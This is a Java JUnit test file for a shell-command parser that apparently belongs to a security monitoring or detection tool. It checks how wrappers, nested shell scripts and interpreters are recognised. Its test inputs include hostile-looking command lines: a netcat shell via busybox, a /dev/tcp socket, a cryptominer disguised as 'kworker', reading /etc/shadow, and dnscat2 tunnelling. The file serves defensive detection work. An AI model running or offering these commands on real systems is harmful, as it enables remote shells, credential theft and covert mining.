package dev.ale.monitor.detect;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Optional;

import static org.assertj.core.api.Assertions.assertThat;

class InvocationTest {

    private static Invocation of(String line) {
        return Invocation.of(ShellWords.parse(line).commands().getFirst());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "env X=1 Y=2 /usr/bin/ssh -V                       | ssh     | env",
            "nohup setsid -f timeout -s KILL 5 nc -h           | nc      | nohup setsid timeout",
            "sudo -u nobody -E nice -n 19 ionice -c3 xmrig     | xmrig   | sudo nice ionice",
            "exec -a kworker ./xmrig                           | xmrig   | exec",
            "X=1 time -p stdbuf -oL python3 x.py               | python3 | time stdbuf",
            "xargs -0 -n1 -I{} curl {}                         | curl    | xargs",
            "taskset -c 0-3 chrt -f 99 ./a.out                 | a.out   | taskset chrt",
            "strace -f -e trace=network -o t.txt nc h 1        | nc      | strace",
            "busybox nc -e sh h 1                              | nc      | busybox",
            "sshpass -p pw ssh u@h                             | ssh     | sshpass",
            "screen -dmS name ./loop                           | loop    | screen",
            "command -v xmrig                                  | command | ''",
            "exec 3<>/dev/tcp/h/1                              | exec    | ''",
            "nohup                                             | nohup   | ''"})
    void wrappersArePeeledToTheProgramThatRuns(String line, String program, String wrappers) {
        Invocation inv = of(line);
        assertThat(inv.program()).isEqualTo(program);
        assertThat(inv.wrappers()).isEqualTo(wrappers.isEmpty() ? List.of() : List.of(wrappers.split(" ")));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "sh -c 'id; uname'                  | id; uname",
            "bash -lc \"echo hi\"               | echo hi",
            "bash -o pipefail -c 'a && b' zero  | a && b",
            "eval echo \"$x\" y                 | echo '$x' y",
            "su -c 'cat /etc/shadow' root       | cat /etc/shadow",
            "flock /tmp/l -c 'make'             | make",
            "env -S 'xmrig -c c.json'           | xmrig -c c.json",
            "watch -n 5 'curl -s localhost'     | curl -s localhost",
            "tmux new -d 'python3 bot.py'       | python3 bot.py",
            "busybox sh -c 'nc -e sh h 1'       | nc -e sh h 1"})
    void scriptsHandedToAShellAreSetApartFromTheWords(String line, String script) {
        Invocation inv = of(line);
        assertThat(inv.nestedScripts()).containsExactly(script);
        assertThat(inv.textWords()).doesNotContain(script);
    }

    @ParameterizedTest
    @ValueSource(strings = {"sh", "bash -i", "bash -s", "python3", "python3 -", "perl", "at now + 1 minute"})
    void commandsWithoutInlineCodeOrScriptRunTheirStdin(String line) {
        assertThat(of(line).readsStdin()).isTrue();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "bash run.sh                  | run",
            "python3 -u /tmp/x/dnscat2.py | dnscat2",
            "python3 -m sshuttle -r h     | sshuttle",
            "ruby ./dnscat2.rb d          | dnscat2",
            "node server.js               | server"})
    void interpretersAreKnownByTheScriptTheyRun(String line, String script) {
        Invocation inv = of(line);
        assertThat(inv.readsStdin()).isFalse();
        assertThat(inv.scriptName()).isEqualTo(Optional.of(script));
    }

    @Test
    void xargsAndParallelReplaceStringsArePlaceholders() {
        assertThat(of("xargs -I HOST ping -c1 HOST").placeholders()).containsExactly("HOST");
        assertThat(of("xargs -i ping -c1 {}").placeholders()).containsExactly("{}");
        assertThat(of("parallel ping -c1 {} ::: a b").placeholders()).contains("{}");
    }

    @Test
    void theShownCommandQuotesWhatNeedsQuoting() {
        assertThat(of("ssh -o 'RemoteForward 1 h:2' h 2>&1 > out").shown())
                .isEqualTo("ssh -o 'RemoteForward 1 h:2' h 2>&1 >out");
    }
}
